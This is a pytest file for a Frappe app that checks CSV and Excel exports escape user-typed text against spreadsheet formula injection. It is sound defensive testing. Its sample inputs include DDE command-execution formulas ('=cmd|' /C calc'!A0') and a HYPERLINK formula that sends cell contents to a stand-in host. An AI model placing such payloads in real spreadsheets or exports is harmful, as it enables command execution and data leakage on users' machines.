"""What somebody has typed is text in every file that Frappe makes for a spreadsheet; what is a number stays one."""

import ast
import csv
import io
import json
import re
from collections.abc import Iterator
from pathlib import Path

import frappe
import openpyxl
import pytest

from kinerja_kecamatan.demo.client import Person
from kinerja_kecamatan.output import tables, wraps
from kinerja_kecamatan.output.install import install
from tests.support.environment import Environment
from tests.support.papers import raw as written

DOCTYPE, FIELD, REPORT = "Indikator Kinerja", "definisi_operasional", "Uji Rumus"
LIVE = [
	"=1+1",
	"=cmd|' /C calc'!A0",
	'=HYPERLINK("http://kantor.test/?"&A1,"x")',
	"+1+1",
	"-1+cmd|' /C calc'!A0",
	"@SUM(1+1)",
	"\t=1+1",
	"\r=1+1",
	"\n=1+1",
	"'=1+1",
	"''=1+1",
	"- rapat dengan =",
	"\uff1d1+1",
]
PLAIN = [
	"biasa",
	"12",
	"-5",
	"-5,25",
	"+6281200",
	"1.234,5",
	"-12,5 %",
	"'kutip'",
	"x=1",
	"a\n- b c",
	"a; b",
]
# Live where cells end with `;`: behind one, and on a line of their own.
INSIDE = {
	"x;=1+1": "x;'=1+1",
	"a\n=1": "a\n'=1",
	'x; "@SUM(1+1)': "x; \"'@SUM(1+1)",
	"x;\t-cmd|' /C calc'!A0": "x;\t'-cmd|' /C calc'!A0",
	"x;'=1": "x;''=1",
}
AT_THE_START = {text: f"'{text[0]}'{text[1:]}" for text in ("\t=1+1", "\r=1+1", "\n=1+1")}
AS_CSV = {
	**dict(zip(LIVE, (f"'{text}" for text in LIVE), strict=True)),
	**AT_THE_START,
	**INSIDE,
	"=2+2": "'=2+2",
}
TEXTS = [*LIVE, *PLAIN, *INSIDE]


@pytest.fixture(scope="module")
def typed(_connected: None) -> Iterator[list[str]]:
	"""One document for each text, committed, and a report over them; the documents' names."""
	names = [f"UJI-RUMUS-{number:02}" for number in range(len(TEXTS))]
	fixed = {"kecamatan": "UJI", "aktif": 0, "nama_indikator": "=2+2", "desimal": 2}
	for name, text in zip(names, TEXTS, strict=True):
		written({"doctype": DOCTYPE, "name": name, "kode": name, FIELD: text, **fixed})
	query = f"select name, {FIELD} as typed, desimal from `tab{DOCTYPE}` where left(name, 9) = 'UJI-RUMUS' order by name"
	report = {"doctype": "Report", "report_name": REPORT, "ref_doctype": DOCTYPE, "is_standard": "No"}
	frappe.get_doc({**report, "report_type": "Query Report", "query": query}).insert()
	frappe.db.commit()
	yield names
	frappe.db.rollback()
	frappe.db.delete(DOCTYPE, {"name": ["in", names]})
	frappe.delete_doc("Report", REPORT, force=True)
	frappe.db.commit()


@pytest.fixture(scope="module")
def admin(env: Environment) -> Person:
	return Person(env.url, env.site, "Administrator", env.admin_password, "admin")


def rows_of(content: bytes, kind: str) -> list[list]:
	"""What a spreadsheet reads out of the file; a formula as itself, so that no test takes it for text."""
	if kind == "CSV":
		return list(csv.reader(io.StringIO(content.decode(), newline="")))
	sheet = openpyxl.load_workbook(io.BytesIO(content)).active
	return [
		[("formula", cell.value) if cell.data_type == "f" else cell.value for cell in row]
		for row in sheet.iter_rows()
	]


def _list(kind: str) -> dict:
	fields = [f"`tab{DOCTYPE}`.`{field}`" for field in ("name", FIELD, "desimal", "nama_indikator")]
	return {
		"cmd": "frappe.desk.reportview.export_query",
		"doctype": DOCTYPE,
		"fields": json.dumps(fields),
		"filters": json.dumps([[DOCTYPE, "name", "like", "UJI-RUMUS-%"]]),
		"order_by": f"`tab{DOCTYPE}`.`name`",
		"file_format_type": kind,
		"title": "x",
	}


def _report(kind: str) -> dict:
	return {
		"cmd": "frappe.desk.query_report.export_query",
		"report_name": REPORT,
		"file_format_type": kind,
		"visible_idx": json.dumps(list(range(len(TEXTS)))),
		"filters": "{}",
	}


def _data_export(kind: str) -> dict:
	return {
		"cmd": "frappe.core.doctype.data_export.exporter.export_data",
		"doctype": DOCTYPE,
		"with_data": 1,
		"file_type": kind,
		"select_columns": json.dumps({DOCTYPE: ["name", FIELD, "desimal", "nama_indikator"]}),
		"filters": json.dumps([["name", "like", "UJI-RUMUS-%"]]),
	}


def _template(kind: str) -> dict:
	return {
		"cmd": "frappe.core.doctype.data_import.data_import.download_template",
		"doctype": DOCTYPE,
		"export_fields": json.dumps({DOCTYPE: ["name", FIELD, "desimal", "nama_indikator"]}),
		"export_records": "all",
		"file_type": kind,
	}


WAYS = {"list": _list, "report": _report, "data export": _data_export, "import template": _template}


def answer(admin: Person, form: dict) -> bytes:
	got = admin.session.post(f"{admin.url}/api/method/{form['cmd']}", data=form, timeout=120)
	assert got.status_code == 200, got.text[:500]
	return got.content


@pytest.mark.parametrize("kind", ["CSV", "Excel"])
@pytest.mark.parametrize("way", WAYS)
def test_typed_text_is_text(admin: Person, typed: list[str], way: str, kind: str) -> None:
	rows = rows_of(answer(admin, WAYS[way](kind)), kind)
	found = by_name(rows, typed)
	assert set(found) == set(typed)
	for name, text in zip(typed, TEXTS, strict=True):
		row = found[name]
		check(row, text, kind)
		assert any(str(value) == "2" for value in row), "a number stays one"
		if way != "report":
			check(row, "=2+2", kind)


def by_name(rows: list[list], names: list[str]) -> dict[str, list]:
	"""Rows by their document; data export writes its name in quotation marks."""
	found = ((str(value).strip('"'), row) for row in rows for value in row)
	return {name: row for name, row in found if name in names}


def check(row: list, text: str, kind: str) -> None:
	expected = AS_CSV.get(text, text) if kind == "CSV" else text
	assert not [value for value in row if isinstance(value, tuple)], row
	# Workbooks keep line ends and blanks in their own way.
	said = [str(value).replace("\r\n", "\n").replace("\r", "\n").strip(" ") for value in row]
	assert any(_same(value, expected) for value in said), (expected, row)


def _same(value: str, expected: str) -> bool:
	squeezed = " ".join(expected.split())
	return (
		value == expected.replace("\r", "\n") or " ".join(value.replace("_x000D_", " ").split()) == squeezed
	)


def test_numbers_are_numbers_in_workbooks(admin: Person, typed: list[str]) -> None:
	for way in ("list", "report"):
		rows = rows_of(answer(admin, WAYS[way]("Excel")), "Excel")
		assert all(2 in row for row in rows if set(row) & set(typed))


def test_whatever_is_answered_as_csv(admin: Person, typed: list[str]) -> None:
	form = {
		"cmd": "frappe.utils.csvutils.send_csv_to_client",
		"args": json.dumps({"data": [TEXTS], "filename": "x"}),
	}
	assert rows_of(answer(admin, form), "CSV")[0] == [AS_CSV.get(text, text) for text in TEXTS]


def test_nothing_is_live_where_cells_end_with_a_semicolon(admin: Person, typed: list[str]) -> None:
	"""As Excel reads a file with commas in Indonesia: its quotes hold a cell together only from the cell's own beginning on."""
	for way, form in WAYS.items():
		text = answer(admin, form("CSV")).decode()
		cells = [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=";") for cell in row]
		assert any("1+1" in cell for cell in cells)
		live = [cell for cell in cells if re.match(r"[\s\"]*(?:[=@]|[+-].*[(|!])", cell)]
		assert not live, (way, live)


@pytest.mark.parametrize("kind", ["CSV", "XLSX"])
def test_a_mailed_report(typed: list[str], site: None, kind: str) -> None:
	install()
	values = {
		"doctype": "Auto Email Report",
		"report": REPORT,
		"report_type": "Query Report",
		"user": "Administrator",
	}
	mail = frappe.get_doc(
		{**values, "format": kind, "email_to": "a@kantor.test", "no_of_rows": 100, "filters": "{}"}
	)
	content = mail.get_report_content()
	rows = rows_of(
		content.encode() if isinstance(content, str) else content, "CSV" if kind == "CSV" else "Excel"
	)
	found = by_name(rows, typed)
	for name, text in zip(typed, TEXTS, strict=True):
		check(found[name], text, "CSV" if kind == "CSV" else "Excel")


def test_what_an_import_reads_is_what_was_exported(admin: Person, typed: list[str], site: None) -> None:
	install()
	from frappe.utils import csvutils

	rows = csvutils.read_csv_content(answer(admin, _template("CSV")))
	found = by_name(rows, typed)
	for name, text in zip(typed, TEXTS, strict=True):
		assert any(_same(str(value), text.strip()) for value in found[name]), (text, found[name])


def test_a_text_cell_can_be_read_back() -> None:
	assert [tables.from_text_cell(tables.text_cell(text)) for text in TEXTS] == TEXTS
	assert [tables.text_cell(text) for text in PLAIN] == PLAIN
	assert [tables.text_cell(value) for value in (1, -1.5, None, True)] == [1, -1.5, None, True]


def test_without_the_wraps_they_are_live(site: None, monkeypatch: pytest.MonkeyPatch) -> None:
	install()
	from frappe.desk.utils import get_csv_bytes
	from frappe.utils.xlsxutils import make_xlsx

	params = {"delimiter": ",", "quoting": csv.QUOTE_NONNUMERIC}
	assert rows_of(make_xlsx([["=1+1", 2]], "x").getvalue(), "Excel") == [["=1+1", 2]]
	assert get_csv_bytes([["=1+1", 2]], params) == b'"\'=1+1",2\r\n'
	monkeypatch.setattr(wraps, "applies", lambda: False)
	assert rows_of(make_xlsx([["=1+1", 2]], "x").getvalue(), "Excel") == [[("formula", "=1+1"), 2]]
	assert get_csv_bytes([["=1+1", 2]], params) == b'"=1+1",2\r\n'


def test_nothing_else_in_frappe_writes_tables() -> None:
	"""Whoever in the installed Frappe makes a workbook or writes CSV by itself."""
	known = {"desk/utils.py", "utils/csvutils.py", "utils/xlsxutils.py"}
	for_developers = {"gettext/translate.py", "translate.py"}
	root, found = Path(frappe.__file__).parent, set()
	for path in root.rglob("*.py"):
		text = path.read_text(errors="ignore")
		if (
			"tests" in path.parts
			or path.name.startswith("test_")
			or not ("csv" in text or "openpyxl" in text)
		):
			continue
		if any(_writes_tables(node) for node in ast.walk(ast.parse(text))):
			found.add(str(path.relative_to(root)))
	assert known <= found <= known | for_developers, found


def _writes_tables(node: ast.AST) -> bool:
	if isinstance(node, ast.ImportFrom) and node.module in ("csv", "openpyxl"):
		return any(alias.name in ("writer", "DictWriter", "Workbook") for alias in node.names)
	called = ast.unparse(node.func) if isinstance(node, ast.Call) else ""
	return called in ("csv.writer", "csv.DictWriter", "openpyxl.Workbook", "xlsxwriter.Workbook")
